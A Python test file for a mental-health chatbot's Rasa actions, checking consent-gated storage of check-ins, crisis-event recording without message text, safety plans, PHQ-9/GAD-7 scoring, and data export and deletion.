"""Actions with a saved tracker and a real store: nothing is acknowledged that was not stored."""

from __future__ import annotations

import json
from typing import Any

import pytest
from cryptography.fernet import Fernet
from rasa_sdk.executor import CollectingDispatcher

import actions.common
from actions.checkin import ActionSaveCheckin, ValidateCheckinForm
from actions.consent import ActionSaveConsent
from actions.crisis import ActionRecordCrisisEvent
from actions.data_rights import ActionDeleteData, ActionExportData, checkins_csv, export_summary
from actions.plans import ActionSaveSafetyPlan, ActionShowSafetyPlan, save_pending_plans
from bot.content.wording import wording
from bot.core.checkins import LEFT_OUT
from bot.core.stage_reading import stage_reading
from bot.store import Store
from tests.actions.conftest import make_tracker

CHECKIN = {"mood": 6.0, "anxiety": 3.0, "sleep_hours": 7.5, "medication": "yes",
           "coping_used": "-", "note": "walked the dog", "consent": True}
FORM_EVENTS = [{"event": "active_loop", "name": "checkin_form", "timestamp": 1700000000.0}]


def responses(dispatcher: CollectingDispatcher) -> list[str]:
    return [m.get("response") or m.get("text") for m in dispatcher.messages]


def test_checkin_is_confirmed_only_after_it_is_stored(action_store: Store) -> None:
    dispatcher = CollectingDispatcher()
    events = ActionSaveCheckin().run(dispatcher, make_tracker(slots=CHECKIN, events=FORM_EVENTS), {})
    # never done a questionnaire, so PHQ-9 / GAD-7 are offered after the confirmation
    assert responses(dispatcher) == ["utter_checkin_saved", "utter_offer_questionnaires"]
    assert dispatcher.messages[0]["mood"] == "6" and dispatcher.messages[0]["sleep_hours"] == "7.5 hours of sleep"
    [row] = action_store.people.export("web:anna")["checkins"]
    assert row["note"] == "walked the dog" and row["coping_used"] is None
    assert {e["name"] for e in events} >= {"mood", "note"}  # slots cleared for the next check-in


def test_duplicate_delivery_of_the_last_answer_stores_once(action_store: Store) -> None:
    tracker = make_tracker(slots=CHECKIN, events=FORM_EVENTS)
    ActionSaveCheckin().run(CollectingDispatcher(), tracker, {})
    ActionSaveCheckin().run(CollectingDispatcher(), tracker, {})
    assert len(action_store.people.export("web:anna")["checkins"]) == 1


def test_database_down_gives_an_honest_answer_and_keeps_the_answers() -> None:
    actions.common.set_store(Store("postgresql://postgres@127.0.0.1:1/none", b"s", Fernet.generate_key()))
    try:
        dispatcher = CollectingDispatcher()
        events = ActionSaveCheckin().run(dispatcher, make_tracker(slots=CHECKIN, events=FORM_EVENTS), {})
    finally:
        actions.common.set_store(None)
    assert responses(dispatcher) == ["utter_checkin_save_failed"]
    assert events == []  # the answers stay in the slots for a retry


def test_no_consent_means_nothing_is_stored(action_store: Store) -> None:
    dispatcher = CollectingDispatcher()
    ActionSaveCheckin().run(dispatcher, make_tracker(slots={**CHECKIN, "consent": False}), {})
    assert responses(dispatcher) == ["utter_checkin_not_saved_no_consent"]
    assert action_store.people.export("web:anna")["user"] is None


CONSENT_ASKED = [{"event": "bot", "text": "Is it okay for me to store it?",
                  "data": {"buttons": [{"title": "Yes", "payload": "/give_consent"}]}}]


@pytest.mark.parametrize(("intent", "consent", "reply"), [
    ("affirm", True, "utter_consent_given"), ("give_consent", True, "utter_consent_given"),
    ("deny", False, "utter_consent_declined"), ("withdraw_consent", False, "utter_consent_declined"),
])
def test_consent(action_store: Store, intent: str, consent: bool, reply: str) -> None:
    dispatcher = CollectingDispatcher()
    events = ActionSaveConsent().run(dispatcher, make_tracker(intent=intent, events=CONSENT_ASKED), {})
    assert responses(dispatcher) == [reply]
    assert events == [{"event": "slot", "timestamp": None, "name": "consent", "value": consent}]
    # a no from someone with nothing stored leaves no record at all (the conversation remembers it)
    assert action_store.people.get_consent("web:anna") is (True if consent else None)
    assert (action_store.people.export("web:anna")["user"] is None) is not consent


def test_a_no_from_someone_with_data_stored_is_recorded_and_keeps_what_is_stored(action_store: Store) -> None:
    action_store.people.set_consent("web:anna", True)
    ActionSaveConsent().run(CollectingDispatcher(), make_tracker(intent="withdraw_consent", events=CONSENT_ASKED), {})
    assert action_store.people.get_consent("web:anna") is False


def test_a_yes_before_the_storage_choice_was_ever_explained_gets_the_explanation(action_store: Store) -> None:
    dispatcher = CollectingDispatcher()
    events = ActionSaveConsent().run(dispatcher, make_tracker(intent="give_consent", text="give_consent"), {})
    assert responses(dispatcher) == ["utter_ask_consent"] and events == []
    assert action_store.people.get_consent("web:anna") is None


@pytest.mark.parametrize(("slot", "answer"), [("note", "next"), ("note", "move on"), ("coping_used", "skip this one"),
                                             ("coping_used", "pass")])
def test_skipping_an_optional_checkin_step_stores_nothing_from_the_words(slot: str, answer: str) -> None:
    validator = getattr(ValidateCheckinForm(), f"validate_{slot}")
    assert validator(answer, CollectingDispatcher(), make_tracker(), {}) == {slot: "-"}


@pytest.mark.parametrize(("answer", "kept"), [("ok I'll try it tomorrow, gotta go pick up the kids", "-"),
                                             ("bye for now", "-"),
                                             ("I need to go to bed earlier", "I need to go to bed earlier")])
def test_off_before_the_optional_note_is_no_note(answer: str, kept: str) -> None:
    assert ValidateCheckinForm().validate_note(answer, CollectingDispatcher(), make_tracker(), {}) == {"note": kept}


@pytest.mark.parametrize(("slot", "answer"), [("mood", "skip"), ("anxiety", "can we skip this one"),
                                             ("sleep_hours", "pass"), ("mood", "none of your business")])
def test_skip_at_a_step_a_checkin_needs_says_why_and_that_a_guess_will_do(slot: str, answer: str) -> None:
    dispatcher = CollectingDispatcher()
    assert getattr(ValidateCheckinForm(), f"validate_{slot}")(answer, dispatcher, make_tracker(), {}) == {slot: None}
    assert responses(dispatcher) == [f"utter_checkin_needs_{slot}"]


def _after_the_explanation(slot: str, first: str) -> list[dict[str, Any]]:
    """The events of a check-in where the bot answered ``first`` at ``slot`` by explaining why the step helps."""
    return [*FORM_EVENTS, {"event": "user", "text": first},
            {"event": "bot", "text": "...", "metadata": {"utter_action": f"utter_checkin_needs_{slot}"}},
            {"event": "bot", "text": "...", "metadata": {"utter_action": f"utter_ask_{slot}"}},
            {"event": "user", "text": "skip"}]


@pytest.mark.parametrize(("slot", "again"), [("anxiety", "skip"), ("anxiety", "i said skip"),
                                             ("sleep_hours", "pass"), ("sleep_hours", "none of your business")])
def test_skip_said_again_after_the_explanation_leaves_anxiety_or_sleep_out(slot: str, again: str) -> None:
    dispatcher = CollectingDispatcher()
    validator = getattr(ValidateCheckinForm(), f"validate_{slot}")
    assert validator(again, dispatcher, make_tracker(events=_after_the_explanation(slot, "skip")), {}) \
        == {slot: LEFT_OUT}
    assert responses(dispatcher) == ["utter_checkin_step_left_out"]


def test_a_step_left_out_stays_left_out_when_a_paused_checkin_carries_on() -> None:
    dispatcher = CollectingDispatcher()
    assert ValidateCheckinForm().validate_sleep_hours(LEFT_OUT, dispatcher, make_tracker(), {}) \
        == {"sleep_hours": LEFT_OUT}
    assert dispatcher.messages == []
    assert ValidateCheckinForm().validate_sleep_hours("-1", CollectingDispatcher(), make_tracker(), {}) \
        == {"sleep_hours": None}  # typed: no hours of sleep there


def test_mood_is_never_left_out_and_a_first_skip_is_only_explained() -> None:
    dispatcher = CollectingDispatcher()
    assert ValidateCheckinForm().validate_mood("skip", dispatcher, make_tracker(
        events=_after_the_explanation("mood", "skip")), {}) == {"mood": None}
    assert responses(dispatcher) == ["utter_checkin_needs_mood"]
    # an explanation for another step, earlier, does not count as this step's
    dispatcher = CollectingDispatcher()
    assert ValidateCheckinForm().validate_sleep_hours("skip", dispatcher, make_tracker(
        events=_after_the_explanation("anxiety", "skip")), {}) == {"sleep_hours": None}
    assert responses(dispatcher) == ["utter_checkin_needs_sleep_hours"]


def test_a_checkin_with_steps_left_out_is_stored_without_them(action_store: Store) -> None:
    dispatcher = CollectingDispatcher()
    slots = {**CHECKIN, "anxiety": LEFT_OUT, "sleep_hours": LEFT_OUT}
    ActionSaveCheckin().run(dispatcher, make_tracker(slots=slots, events=FORM_EVENTS), {})
    assert responses(dispatcher)[0] == "utter_checkin_saved"
    said = wording("checkin_shown", "left_out")
    assert dispatcher.messages[0]["anxiety"] == said["anxiety"] and dispatcher.messages[0]["sleep_hours"] \
        == said["sleep_hours"]
    [row] = action_store.people.export("web:anna")["checkins"]
    assert (row["mood"], row["anxiety"], row["sleep_hours"]) == (6.0, None, None)
    assert "None" not in checkins_csv(action_store.people.export("web:anna"))


@pytest.mark.parametrize(("slot", "answer", "parsed"), [
    ("mood", "about six", 6.0), ("mood", "6/10", 6.0), ("mood", "pretty awful", 2.0),
    ("mood", "eleven", None), ("anxiety", "a bit", 3.0), ("sleep_hours", "seven and a half", 7.5),
    ("sleep_hours", "I didn't sleep at all", 0.0), ("medication", "not on medication", "not_prescribed"),
    ("medication", "yep", "yes"), ("medication", "I forgot", "no"), ("medication", "banana", None),
])
def test_free_text_answers(slot: str, answer: str, parsed: object) -> None:
    dispatcher = CollectingDispatcher()
    validator = getattr(ValidateCheckinForm(), f"validate_{slot}")
    assert validator(answer, dispatcher, make_tracker(), {}) == {slot: parsed}
    assert bool(dispatcher.messages) is (parsed is None)  # a hint only when not understood


async def test_crisis_event_is_recorded_without_text(action_store: Store) -> None:
    tracker = make_tracker(slots={"crisis_category": "overdose", "country": "GB", "consent": True},
                           text="I took all my pills", intent="crisis")
    await ActionRecordCrisisEvent().run(CollectingDispatcher(), tracker, {})
    [event] = action_store.people.export("web:anna")["crisis_events"]
    assert (event["category"], event["country"], event["resource_shown"]) == ("overdose", "GB", "gb-nhs-111")
    assert "pills" not in str(event)


async def test_crisis_event_without_consent_is_anonymous(action_store: Store) -> None:
    tracker = make_tracker(slots={"crisis_category": "self_harm", "country": "US", "consent": False})
    await ActionRecordCrisisEvent().run(CollectingDispatcher(), tracker, {})
    assert action_store.people.export("web:anna")["user"] is None


def test_safety_plan_saved_and_shown(action_store: Store) -> None:
    slots = {"consent": True, "sp_warning_signs": "not sleeping", "sp_coping": "music",
             "sp_distractions": "the park", "sp_people": "my sister", "sp_professionals": "my GP",
             "sp_environment": "meds locked away"}
    ActionSaveSafetyPlan().run(CollectingDispatcher(), make_tracker(slots=slots), {})
    dispatcher = CollectingDispatcher()
    ActionShowSafetyPlan().run(dispatcher, make_tracker(slots={"consent": True}), {})
    shown = dispatcher.messages[0]["text"]
    assert "not sleeping" in shown and "my sister" in shown and "meds locked away" in shown


def test_a_stopped_plan_is_neither_shown_nor_stored_after_a_late_yes(action_store: Store) -> None:
    """"stop" in a plan is answered "I haven't kept the answers from this time": so it is."""
    begun = [{"event": "action", "name": "action_start_safety_plan"}]
    stopped = [*begun, {"event": "action", "name": "utter_safety_plan_stopped"}]
    slots = {"consent": True, "sp_warning_signs": "chest gets tight", "sp_coping": "a run"}
    dispatcher = CollectingDispatcher()
    ActionShowSafetyPlan().run(dispatcher, make_tracker(slots=slots, events=stopped), {})
    assert "chest gets tight" not in dispatcher.messages[0]["text"]
    save_pending_plans(CollectingDispatcher(), make_tracker(slots=slots, events=stopped))
    assert action_store.plans.get("web:anna", "safety") is None
    # begun again after the stop, and not stopped: the answers so far are shown, and stored after a late yes
    dispatcher = CollectingDispatcher()
    ActionShowSafetyPlan().run(dispatcher, make_tracker(slots=slots, events=[*stopped, *begun]), {})
    assert "chest gets tight" in dispatcher.messages[0]["text"]
    save_pending_plans(CollectingDispatcher(), make_tracker(slots=slots, events=[*stopped, *begun]))
    assert action_store.plans.get("web:anna", "safety")


def test_export_sends_json_and_csv(action_store: Store) -> None:
    ActionSaveCheckin().run(CollectingDispatcher(), make_tracker(slots=CHECKIN, events=FORM_EVENTS), {})
    dispatcher = CollectingDispatcher()
    ActionExportData().run(dispatcher, make_tracker(), {})
    files = dispatcher.messages[0]["custom"]["files"]
    assert files[0]["content"]["checkins"][0]["mood"] == 6.0
    header = "created_at,mood,anxiety,sleep_hours,medication,coping_used,note"
    assert files[1]["content"].splitlines()[0] == header
    assert checkins_csv({"checkins": []}).strip() == files[1]["content"].splitlines()[0]
    said = dispatcher.messages[0]["text"]
    assert "1 check-in" in said and "check-ins" not in said.split("CSV")[0] and "safety plan" not in said


def test_export_of_nothing_says_nothing_is_stored() -> None:
    assert "anything" in export_summary({"user": None, "checkins": [], "safety_plan": None})
    said = export_summary({"user": {"consent": True}, "checkins": [{}, {}], "reminders": [{}],
                           "safety_plan": {"steps": 1}, "relapse_plan": None})
    assert "2 check-ins" in said and "1 reminder" in said and "your safety plan" in said
    assert "relapse" not in said and said.split(". ")[0].count(" and ") == 1


async def test_delete_removes_everything(action_store: Store) -> None:
    ActionSaveCheckin().run(CollectingDispatcher(), make_tracker(slots=CHECKIN, events=FORM_EVENTS), {})
    dispatcher = CollectingDispatcher()
    events = await ActionDeleteData().run(dispatcher, make_tracker(), {})
    assert action_store.people.export("web:anna")["user"] is None
    assert events[-1]["event"] == "restart"
    assert dispatcher.messages[0]["text"] == wording("data_rights", "deleted")


async def test_delete_within_a_crisis_aftercare_keeps_the_country_and_the_crisis_only(action_store: Store) -> None:
    """Deleted mid-crisis: everything stored goes, but the country and the crisis (kind, time, what was asked)
    carry into the new conversation, so a message about danger straight after gets the right lines."""
    import time

    action_store.people.set_consent("web:anna", True)
    now = time.time()
    slots = {"country": "GB", "crisis_category": "suicidal_thoughts", "crisis_at": now - 120,
             "crisis_followup": "asked_thoughts", "recovery_stage": "treatment", "consent": True}
    told = [{"event": "user", "text": "i want to end it", "timestamp": now - 121, "parse_data": {}},
            {"event": "action", "name": "utter_crisis", "timestamp": now - 120},
            {"event": "user", "text": "delete everything", "timestamp": now - 10, "parse_data": {}}]
    dispatcher = CollectingDispatcher()
    events = await ActionDeleteData().run(dispatcher, make_tracker(slots=slots, events=told), {})
    assert action_store.people.export("web:anna")["user"] is None
    assert events[0]["event"] == "restart"
    carried = {e["name"]: e["value"] for e in events[1:] if e["event"] == "slot"}
    assert carried == {"country": "GB", "crisis_category": "suicidal_thoughts", "crisis_at": now - 120,
                       "crisis_followup": "asked_thoughts"}
    assert dispatcher.messages[0]["text"] == wording("data_rights", "deleted_safety_kept")
    # An hour and eleven messages after the crisis reply, nothing is carried.
    slots["crisis_at"] = now - 3600
    told = told[:2] + [{"event": "user", "text": "ok", "timestamp": now - 3000 + turn, "parse_data": {}}
                       for turn in range(11)]
    for event in told[:2]:
        event["timestamp"] -= 3600
    action_store.people.set_consent("web:anna", True)
    events = await ActionDeleteData().run(CollectingDispatcher(), make_tracker(slots=slots, events=told), {})
    assert [e["event"] for e in events] == ["restart"]


@pytest.mark.parametrize(("text", "intent", "deleted"), [
    ("hmm", "affirm", False), ("I guess?", "affirm", False), ("hmm maybe", "affirm", False),
    ("yes but wait", "affirm", False), ("yes?", "affirm", False), ("ok...", "affirm", False),
    ("ok\u2026", "affirm", False), ("right, yes do it", "affirm", True),
    ("ok", "affirm", True), ("yess", "affirm", True), ("yesss delete it", "affirm", True),
    ("/affirm", "affirm", True), ("delete all my data", "request_data_deletion", True),
])
async def test_only_a_clear_yes_deletes(action_store: Store, text: str, intent: str, deleted: bool) -> None:
    """Deleting cannot be undone: "hmm" (heard as a yes at 0.32) never deletes; the question is asked again."""
    action_store.people.set_consent("web:anna", True)
    dispatcher = CollectingDispatcher()
    tracker = make_tracker(intent=intent, text=text)
    tracker.latest_message["intent"]["confidence"] = 0.32 if intent == "affirm" else 0.95
    events = await ActionDeleteData().run(dispatcher, tracker, {})
    assert (action_store.people.export("web:anna")["user"] is None) is deleted
    if not deleted:
        assert responses(dispatcher) == ["utter_deletion_not_yet"]
        assert events[-1] == {"event": "followup", "timestamp": None, "name": "utter_ask_confirm_deletion"}


async def test_delete_my_last_check_in_deletes_that_one_only(action_store: Store) -> None:
    from bot.store import CheckinValues

    action_store.people.set_consent("web:anna", True)
    for run, mood in (("run-1", 4), ("run-2", 7)):
        action_store.checkins.save("web:anna", CheckinValues(mood=mood, anxiety=3, sleep_hours=7, medication="yes"),
                                   run)
    asked = [{"event": "user", "text": "delete my last check-in", "parse_data": {}},
             {"event": "action", "name": "utter_ask_confirm_deletion"},
             {"event": "bot", "text": "Shall I delete your most recent check-in?"},
             {"event": "action", "name": "action_listen"}, {"event": "user", "text": "yes", "parse_data": {}}]
    dispatcher = CollectingDispatcher()
    events = await ActionDeleteData().run(dispatcher, make_tracker(events=asked), {})
    assert responses(dispatcher) == ["utter_latest_checkin_deleted"] and events == []
    assert [c["mood"] for c in action_store.people.export("web:anna")["checkins"]] == [4]


@pytest.mark.parametrize(("request_words", "kind", "other"), [
    ("delete my relapse plan", "relapse", "safety"), ("please wipe my safety plan", "safety", "relapse"),
    ("can you remove the relapse prevention plan", "relapse", "safety")])
async def test_deleting_one_plan_keeps_the_other_plan_and_the_checkins(action_store: Store, request_words: str,
                                                                       kind: str, other: str) -> None:
    from bot.store import CheckinValues

    action_store.people.set_consent("web:anna", True)
    action_store.checkins.save("web:anna", CheckinValues(mood=5, anxiety=3, sleep_hours=7, medication="yes"), "r1")
    for plan in ("safety", "relapse"):
        action_store.plans.save("web:anna", plan, {})
    asked = [{"event": "user", "text": request_words, "parse_data": {}},
             {"event": "action", "name": "utter_ask_confirm_deletion"},
             {"event": "action", "name": "action_listen"}, {"event": "user", "text": "yes", "parse_data": {}}]
    dispatcher = CollectingDispatcher()
    await ActionDeleteData().run(dispatcher, make_tracker(events=asked), {})
    assert responses(dispatcher) == [wording("plans", kind, "deleted")]
    assert action_store.plans.get("web:anna", kind) is None and action_store.plans.get("web:anna", other) is not None
    assert len(action_store.people.export("web:anna")["checkins"]) == 1
    # asked again, with that plan gone: said so, nothing else deleted
    dispatcher = CollectingDispatcher()
    await ActionDeleteData().run(dispatcher, make_tracker(events=asked), {})
    assert responses(dispatcher) == [wording("plans", kind, "missing")]
    assert action_store.plans.get("web:anna", other) is not None


@pytest.mark.parametrize(("words", "scope"), [
    ("delete my relapse plan", "relapse_plan"), ("remove my safety-plan please", "safety_plan"),
    ("delete my last check-in", "latest_checkin"), ("delete my safety plan and all my notes", "everything"),
    ("delete my safety plan and my relapse plan", "everything"), ("delete my data", "everything"),
    ("wipe everything including the relapse plan", "everything")])
def test_what_a_request_to_delete_asks_for(words: str, scope: str) -> None:
    from bot.core.form_answers import deletion_scope

    assert deletion_scope(words) == scope


async def test_phq9_item_nine_above_zero_sends_the_crisis_reply_at_once(action_store: Store) -> None:
    from actions.questionnaires import ValidatePhq9Form

    tracker = make_tracker(slots={"phq9_9": "Several days", "requested_slot": "phq9_9", "country": "IE",
                                  "consent": True},
                           events=[{"event": "slot", "name": "phq9_9", "value": "Several days"}])
    tracker.active_loop = {"name": "phq9_form"}
    dispatcher = CollectingDispatcher()
    events = await ValidatePhq9Form().get_validation_events(dispatcher, tracker, {"forms": {}})
    # The reply is utter_crisis, generated by Rasa from the directory for the conversation's country.
    assert dispatcher.messages[0]["response"] == "utter_crisis"
    assert dispatcher.messages[0]["crisis_category"] == "suicidal_thoughts"
    assert {"event": "slot", "timestamp": None, "name": "phq9_9", "value": 1.0} in events
    assert {"event": "slot", "timestamp": None, "name": "crisis_followup", "value": "asked_thoughts"} in events
    assert action_store.people.export("web:anna")["crisis_events"][0]["category"] == "suicidal_thoughts"
    assert action_store.people.export("web:anna")["crisis_events"][0]["country"] == "IE"


async def test_phq9_item_nine_alerts_the_clinic(action_store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every crisis path alerts the clinic, the questionnaire's too."""
    import actions.crisis
    from actions.questionnaires import ValidatePhq9Form

    sent: list[tuple[str, dict]] = []
    monkeypatch.setenv("CLINIC_ALERT_WEBHOOK", "http://127.0.0.1:9/alert")
    monkeypatch.setattr(actions.crisis, "schedule_alert", lambda url, payload: sent.append((url, payload)))
    tracker = make_tracker(slots={"phq9_9": "Nearly every day", "requested_slot": "phq9_9", "consent": True},
                           events=[{"event": "slot", "name": "phq9_9", "value": "Nearly every day"}])
    tracker.active_loop = {"name": "phq9_form"}
    await ValidatePhq9Form().get_validation_events(CollectingDispatcher(), tracker, {"forms": {}})
    assert [p["category"] for _, p in sent] == ["suicidal_thoughts"]
    assert sent[0][1]["event"] == "crisis_reply_shown" and "text" not in sent[0][1]


async def test_phq9_item_nine_zero_is_quiet(action_store: Store) -> None:
    from actions.questionnaires import ValidatePhq9Form

    tracker = make_tracker(slots={"phq9_9": "0", "requested_slot": "phq9_9"},
                           events=[{"event": "slot", "name": "phq9_9", "value": "0"}])
    tracker.active_loop = {"name": "phq9_form"}
    dispatcher = CollectingDispatcher()
    await ValidatePhq9Form().get_validation_events(dispatcher, tracker, {"forms": {}})
    assert dispatcher.messages == []


async def test_asked_what_the_questionnaire_is_for_inside_it_says_so_and_keeps_nothing(action_store: Store) -> None:
    from actions.questionnaires import ValidatePhq9Form

    tracker = make_tracker(slots={"phq9_2": "what does this test even do", "requested_slot": "phq9_2"},
                           events=[{"event": "slot", "name": "phq9_2", "value": "what does this test even do"}])
    tracker.active_loop = {"name": "phq9_form"}
    dispatcher = CollectingDispatcher()
    events = await ValidatePhq9Form().get_validation_events(dispatcher, tracker, {"forms": {}})
    assert "not a diagnosis" in dispatcher.messages[0]["text"] and "PHQ-9" in dispatcher.messages[0]["text"]
    assert {"event": "slot", "timestamp": None, "name": "phq9_2", "value": None} in events


async def _validate_gad7(text: str, number: int, filled: dict[str, float]) -> tuple[list, list]:
    from actions.questionnaires import ValidateGad7Form

    slot = f"gad7_{number}"
    tracker = make_tracker(slots={**filled, slot: text, "requested_slot": slot},
                           events=[{"event": "slot", "name": slot, "value": text}])
    tracker.active_loop = {"name": "gad7_form"}
    dispatcher = CollectingDispatcher()
    events = await ValidateGad7Form().get_validation_events(dispatcher, tracker, {"forms": {}})
    return dispatcher.messages, [(e["name"], e["value"]) for e in events if e["event"] == "slot"]


@pytest.mark.parametrize("text", ["what does that mean?", "i don't get the question", "like what?",
                                  "what does several days mean?"])  # names an answer, but asks about it
async def test_a_question_at_an_item_gets_its_plain_words_and_scores_nothing(action_store: Store,
                                                                            text: str) -> None:
    messages, slots = await _validate_gad7(text, 2, {"gad7_1": 1.0})
    assert "put it out of your mind" in messages[0]["text"] and "3 = nearly every day" in messages[0]["text"]
    assert slots == [("gad7_2", None)]


async def test_go_back_at_an_item_clears_it_and_the_one_before(action_store: Store) -> None:
    messages, slots = await _validate_gad7("wait, go back", 3, {"gad7_1": 1.0, "gad7_2": 2.0})
    assert messages == [] and slots == [("gad7_3", None), ("gad7_2", None)]


async def test_skip_at_an_item_says_every_item_counts(action_store: Store) -> None:
    messages, slots = await _validate_gad7("skip this one", 1, {})
    assert "can't leave one out" in messages[0]["text"] and slots == [("gad7_1", None)]


async def test_an_everyday_answer_is_still_scored(action_store: Store) -> None:
    messages, slots = await _validate_gad7("most days", 1, {})
    assert messages == [] and slots == [("gad7_1", 2.0)]


def test_a_questionnaire_says_what_it_is_at_its_opening_only() -> None:
    from actions.questionnaires import ASK_ACTIONS
    ask = next(a for a in ASK_ACTIONS if a().name() == "action_ask_phq9_1")()
    for requested, said in ((None, True), ("phq9_1", False)):
        dispatcher = CollectingDispatcher()
        ask.run(dispatcher, make_tracker(slots={"requested_slot": requested}), {})
        text = dispatcher.messages[0]["text"]
        assert "PHQ-9 1 of 9" in text and "Over the last 2 weeks" in text
        assert ("only a doctor can" in text) is said, text


def test_a_stopped_questionnaire_forgets_its_answers_and_its_pause() -> None:
    from actions.questionnaires import ActionQuestionnaireStopped

    dispatcher = CollectingDispatcher()
    events = ActionQuestionnaireStopped().run(dispatcher, make_tracker(
        slots={"phq9_1": 2.0, "phq9_2": 1.0, "interrupted_form": "phq9_form"}), {})
    cleared = {e["name"] for e in events if e["event"] == "slot" and e["value"] is None}
    assert {"phq9_1", "phq9_2", "gad7_1", "interrupted_form"} <= cleared
    assert dispatcher.messages[0]["response"] == "utter_questionnaire_stopped"


def test_questionnaire_result_is_scored_and_stored(action_store: Store) -> None:
    from actions.questionnaires import ActionSaveQuestionnaire

    slots = {f"gad7_{i}": 2.0 for i in range(1, 8)} | {"consent": True}
    dispatcher = CollectingDispatcher()
    ActionSaveQuestionnaire().run(dispatcher, make_tracker(
        slots=slots, events=[{"event": "active_loop", "name": "gad7_form"},
                             {"event": "active_loop", "name": None}]), {})
    assert "GAD-7 score is 14 (moderate" in dispatcher.messages[0]["text"]
    [result] = action_store.people.export("web:anna")["questionnaires"]
    assert result == {**result, "questionnaire": "gad7", "total": 14, "severity": "moderate",
                      "item_scores": [2] * 7}


def test_a_questionnaire_done_before_consent_is_kept_and_stored_after_a_yes(action_store: Store) -> None:
    from actions.questionnaires import PENDING_SLOT, ActionSaveQuestionnaire

    finished = [{"event": "active_loop", "name": "gad7_form"}, {"event": "active_loop", "name": None}]
    dispatcher = CollectingDispatcher()
    events = ActionSaveQuestionnaire().run(dispatcher, make_tracker(
        slots={f"gad7_{i}": 1.0 for i in range(1, 8)}, events=finished), {})
    assert "GAD-7 score is 7" in dispatcher.messages[0]["text"]
    assert responses(dispatcher)[1:] == ["utter_questionnaire_ask_consent"]
    assert action_store.people.export("web:anna")["questionnaires"] == []
    pending = next(e["value"] for e in events if e.get("name") == PENDING_SLOT)
    dispatcher = CollectingDispatcher()
    ActionSaveConsent().run(dispatcher, make_tracker(intent="affirm", events=CONSENT_ASKED,
                                                     slots={PENDING_SLOT: pending}), {})
    assert "GAD-7 score (7)" in dispatcher.messages[-1]["text"]
    assert [q["total"] for q in action_store.people.export("web:anna")["questionnaires"]] == [7]
    # after a no, nothing is kept and nothing is asked
    dispatcher = CollectingDispatcher()
    events = ActionSaveQuestionnaire().run(dispatcher, make_tracker(
        slots={f"gad7_{i}": 1.0 for i in range(1, 8)} | {"consent": False}, events=finished), {})
    assert len(dispatcher.messages) == 1 and not any(e.get("name") == PENDING_SLOT for e in events)


def test_after_a_crisis_answer_the_result_names_no_band(action_store: Store) -> None:
    from actions.questionnaires import ActionSaveQuestionnaire

    slots = {f"phq9_{i}": 0.0 for i in range(1, 9)} | {"phq9_9": 1.0, "consent": True}
    dispatcher = CollectingDispatcher()
    ActionSaveQuestionnaire().run(dispatcher, make_tracker(
        slots=slots, events=[{"event": "active_loop", "name": "phq9_form"},
                             {"event": "active_loop", "name": None}]), {})
    text = dispatcher.messages[0]["text"]
    assert "PHQ-9 score is 1." in text and "minimal" not in text and "care team" in text, text
    assert action_store.people.export("web:anna")["questionnaires"][0]["severity"] == "minimal"


def test_questionnaires_are_not_offered_again_within_two_weeks(action_store: Store) -> None:
    action_store.questionnaires.save("web:anna", "phq9", [0] * 9, "minimal")
    dispatcher = CollectingDispatcher()
    ActionSaveCheckin().run(dispatcher, make_tracker(slots=CHECKIN, events=FORM_EVENTS), {})
    assert responses(dispatcher) == ["utter_checkin_saved"]


def test_coping_offer_ranks_what_helped_and_never_repeats_what_did_not(action_store: Store) -> None:
    from actions.coping import ActionAskCoping
    from bot.content.coping import load_coping_steps, suggest_steps

    steps = suggest_steps(load_coping_steps(), "maintenance", limit=50)
    disliked, liked = steps[0], steps[-1]
    action_store.coping_feedback.record("web:anna", disliked.id, False)
    action_store.coping_feedback.record("web:anna", liked.id, True)
    dispatcher = CollectingDispatcher()
    ActionAskCoping().run(dispatcher, make_tracker(slots={"recovery_stage": "maintenance", "consent": True}), {})
    titles = [b["title"] for b in dispatcher.messages[0]["buttons"]]
    assert titles[0] == liked.title and disliked.title not in titles and len(titles) == 3


def test_coping_without_a_stage_offers_steps_first_and_never_asks_for_the_stage_before_them(
        action_store: Store) -> None:
    from actions.coping import ActionAskCoping

    dispatcher = CollectingDispatcher()
    ActionAskCoping().run(dispatcher, make_tracker(slots={"consent": True}), {})
    assert "utter_ask_stage_for_coping" not in responses(dispatcher)
    assert "help many people" in dispatcher.messages[0]["text"] and len(dispatcher.messages[0]["buttons"]) == 3


STAGE_DOMAIN = {"responses": {
    "utter_stage_understood": [
        {"condition": [{"type": "slot", "name": "recovery_stage", "value": "treatment"}], "text": "T?"},
        {"condition": [{"type": "slot", "name": "recovery_stage", "value": "maintenance"}], "text": "M?"}],
    "utter_stage_chosen": [
        {"condition": [{"type": "slot", "name": "recovery_stage", "value": "awareness"}], "text": "A!"}]}}


def said(dispatcher: CollectingDispatcher) -> list[str]:
    """Responses and texts, the coping list's own text shortened."""
    return ["coping list" if r.startswith(wording("coping", "offer_intro")) else r for r in responses(dispatcher)]


def stage_turn(action: Any, slots: dict[str, Any], intent: str, text: str, confidence: float = 0.97,
               events: list[dict[str, Any]] | None = None) -> tuple[list[str], dict[str, Any]]:
    tracker = make_tracker(slots={"consent": True, **slots}, intent=intent, text=text, events=events)
    tracker.latest_message["intent"]["confidence"] = confidence
    dispatcher = CollectingDispatcher()
    events_out = action().run(dispatcher, tracker, STAGE_DOMAIN)
    return said(dispatcher), {e["name"]: e["value"] for e in events_out if e.get("event") == "slot"}


def test_stage_is_proposed_once_and_kept_only_when_the_person_says_yes(action_store: Store) -> None:
    from actions.stage import ActionRecordStage, ActionStageReply

    said_, slots = stage_turn(ActionRecordStage, {}, "stage_treatment", "i started therapy last month")
    assert said_ == ["T?"] and slots["stage_pending"] == "propose:treatment"
    assert action_store.people.export("web:anna")["stage_history"] == []  # nothing claimed yet
    said_, slots = stage_turn(ActionStageReply, slots, "affirm", "yes that's me")
    assert said_[-1] == "coping list" and slots["stage_confirmed"] is True and slots["stage_pending"] is None
    assert [h["stage"] for h in action_store.people.export("web:anna")["stage_history"]] == ["treatment"]
    # the same stage described again: said to fit, never asked again
    said_, _ = stage_turn(ActionRecordStage, {"recovery_stage": "treatment", "stage_confirmed": True},
                          "stage_treatment", "my psychiatrist changed my dose")
    assert said_ == ["utter_stage_still"]


def test_a_declined_stage_is_not_proposed_again(action_store: Store) -> None:
    from actions.stage import ActionRecordStage, ActionStageReply

    _, slots = stage_turn(ActionRecordStage, {}, "stage_awareness", "something feels off lately")
    said_, slots = stage_turn(ActionStageReply, slots, "deny", "no, i'm not new to this")
    assert said_ == ["utter_ask_which_stage"] and slots["stage_declined"] == "awareness"
